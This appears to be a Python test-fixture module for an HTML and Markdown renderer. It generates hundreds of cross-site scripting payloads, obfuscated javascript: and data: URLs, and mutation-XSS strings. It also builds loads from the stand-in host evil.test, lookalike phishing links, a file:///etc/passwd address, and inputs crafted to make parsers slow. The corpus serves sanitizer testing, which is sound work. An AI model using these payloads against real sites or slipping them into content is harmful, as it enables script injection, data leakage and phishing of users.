"""Texts that try to run, to load or to lie: every element with every handler, every address that
runs in every place for one, and what no product of lists makes. Kinds: OWASP's filter evasion,
cure53's H5SC and HTTPLeaks, DOMPurify's fixtures, and what Markdown adds to them."""

from __future__ import annotations

from itertools import cycle, product

_ELEMENTS = """
a abbr address animate area article aside audio b base bdi bdo big blink blockquote body button
canvas caption center cite code col custom-x data datalist dd del details dfn dialog dir div dl dt
em embed fieldset figure font foreignObject form frame frameset h1 head header hr html i iframe
image img input ins isindex kbd keygen label layer legend li link listing main map mark marquee
math menu meta meter nav noembed noscript object ol optgroup option output p param picture
plaintext portal pre progress q rp rt ruby s samp script search section select set slot small
source span strike strong style sub summary sup svg table tbody td template textarea tfoot th
thead time title tr track tt u ul use var video wbr xmp xss
"""
_HANDLERS = """
onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput
onbeforetoggle onbegin onblur onbounce oncanplay oncanplaythrough onchange onclick onclose
oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragstart ondrop onend onended onerror
onfinish onfocus onfocusin onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown
onload onloadeddata onloadstart onmessage onmouseenter onmouseover onmousewheel onpagehide
onpageshow onpaste onplay onpointerenter onpointerrawupdate onpopstate onprogress
onreadystatechange onrepeat onreset onresize onscroll onscrollend onsearch onselect
onselectionchange onshow onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchstart
ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwebkitanimationend
onwheel
"""
_WRITTEN = (
    "<{0} src=x autofocus tabindex=1 {1}=alert(1)>",
    "<{0}/src=x/{1}=alert(1)>x</{0}>",
    "<{0} {1}='alert(1)' open>x",
    '"><{0} {1}="alert(1)">',
    "<{0}\t{1}\n=\n'alert(1)'>",
    "<<{0} {1}=alert(1)//",
    "<{0} x='><{0} {1}=alert(1)>'",
    "&lt;{0} {1}=alert(1)&gt;",
)
_TAKE_ADDRESSES = """
a.href a.ping applet.archive area.href audio.src base.href body.background button.formaction
embed.src form.action iframe.src iframe.srcdoc image.xlink:href img.dynsrc img.longdesc img.lowsrc
img.src img.srcset img.usemap input.formaction input.src isindex.action link.href math.href
meta.content object.classid object.codebase object.data script.src source.srcset svg.href
table.background td.background track.src use.href use.xlink:href video.poster video.src
"""
_RUN = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    " javascript:alert(1)",
    "javascript :alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "&#106;avascript:alert(1)",
    "\\u006aavascript:alert(1)",
    "\uff4aavascript:alert(1)",
    "javascript://evil.test/%0aalert(1)",
    "javascript:https://evil.test/?alert(1)",
    "https:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "DATA:text/html,x",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "blob:https://evil.test/1",
    "filesystem:https://evil.test/x",
    "file:///etc/passwd",
    "about:blank",
    "view-source:https://evil.test",
    "intent://evil.test/#Intent;scheme=https;end",
    "tel:+1555",
    "sms:+1555",
    "ftp://evil.test",
    "ws://evil.test",
    "feed:javascript:alert(1)",
    "jar:https://evil.test!/x",
    "chrome://settings",
    "//evil.test",
    "\\\\evil.test",
    "https:evil",
    "/web/v1/session",
    "?x=javascript:alert(1)",
    "#x",
]
"""Addresses that run, that leave the web, or that mean another place on each page."""

_elsewhere = cycle(["https://evil.test/x", "//evil.test/x", *_RUN[:6]])
HTML = [
    *(
        written.format(element, handler)
        for element, handler, written in zip(
            _ELEMENTS.split(), cycle(_HANDLERS.split()), cycle(_WRITTEN), strict=False
        )
    ),
    *(f"<img src=x {handler}=alert(1)>" for handler in _HANDLERS.split()),
    *(
        "<{0} {1}='{2}'>x</{0}>".format(*taker.split("."), address)
        for taker, address in zip(_TAKE_ADDRESSES.split(), _elsewhere, strict=False)
    ),
    "<script>alert(1)</script>",
    "<script src=https://evil.test/x.js></script>",
    "<SCRIPT SRC=//evil.test/x.js>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='https://evil.test/x.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/x>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>*{background:url(https://evil.test/x)}</style>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<div style='position:fixed;inset:0'>sign in here</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a ping=https://evil.test/ href=https://evil.test>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=attributes><p name=innerHTML>clobbered",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
"""Nothing of these is Markdown: they are shown as they are."""

_PLACES = (
    "[t]({0})",
    "[t](<{0}>)",
    '[t]({0} "onmouseover=alert(1)")',
    "![x]({0})",
    "[![x]({0})]({0})",
    "[a][1]\n\n[1]: {0}",
    "<{0}>",
    "{0}",
    "**[t]({0})**",
    "> - [t]({0})",
    "# [t]({0})",
    "| [t]({0}) |\n|---|",
    "`{0}` [{0}]({0})",
)
MARKDOWN = [
    *(place.format(address) for place, address in product(_PLACES, _RUN)),
    "<script\x0d\x0a>alert(1)</script\t>",
    "![x](https://evil.test/?q=1)",
    '[t](https://evil.test "onmouseover=alert(1)")',
    "[t](https://evil.test/'onmouseover='alert(1))",
    '<https://evil.test/"onclick=alert(1)>',
    "[https://bank.test](https://evil.test)",
    "[https://bank.test/](https://bank.test@evil.test/)",
    "[https://bank.test.evil.test](https://evil.test)",
    "https://bank.test@evil.test/",
    "[bank\u202etset.live](https://evil.test)",
    "[![x](https://evil.test/a)](https://evil.test/b)",
    "[a [b](https://evil.test) c](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload=alert(1)\nx\n```',
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - [t](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [t](javascript:alert(1)) |",
    "**<b onclick=alert(1)>x</b>**",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
]

_LENGTH = 100_000


def _long(piece: str, last: str = "") -> str:
    return piece * (_LENGTH // len(piece)) + last


PLAIN = _long("some words ")
LONG = [
    "[" * 50_000,
    *map(_long, ["*_", "![", "**a ", "**[", "*a _b ~~c __d **e ", "_a_ ", "`a` ", "**a** "]),
    *map(_long, ["[a](", "[a](b", "[x](https://", "[a](https://x.y)", "https://", "https://a.b "]),
    *map(
        _long,
        ["\n", "~~~\n", "```\n", "> ", "> x\n", "- x\n", "1. x\n", "# x\n", "| x |\n", "x\n\n"],
    ),
    *map(_long, ["<", "h", "\\*", "- ", "* ", ">- ", "\t", "مرحبا ", "😀"]),
    _long("`", "x"),
    _long("~", "`"),
    _long("# x\n# x" + " " * 50_000, "y"),
    _long("https://a" + "." * 50_000, "x"),
    _long("- x" + "\n" * 50_000, "y"),
    " ".join("`" * n for n in range(1, 440)),
    "".join("  " * n + "- x\n" for n in range(300)),
    "\n".join(">" * (n % 30) + " x" for n in range(6000)),
]
"""Texts that make a careless reader slow. Each is shown, and the page goes on."""
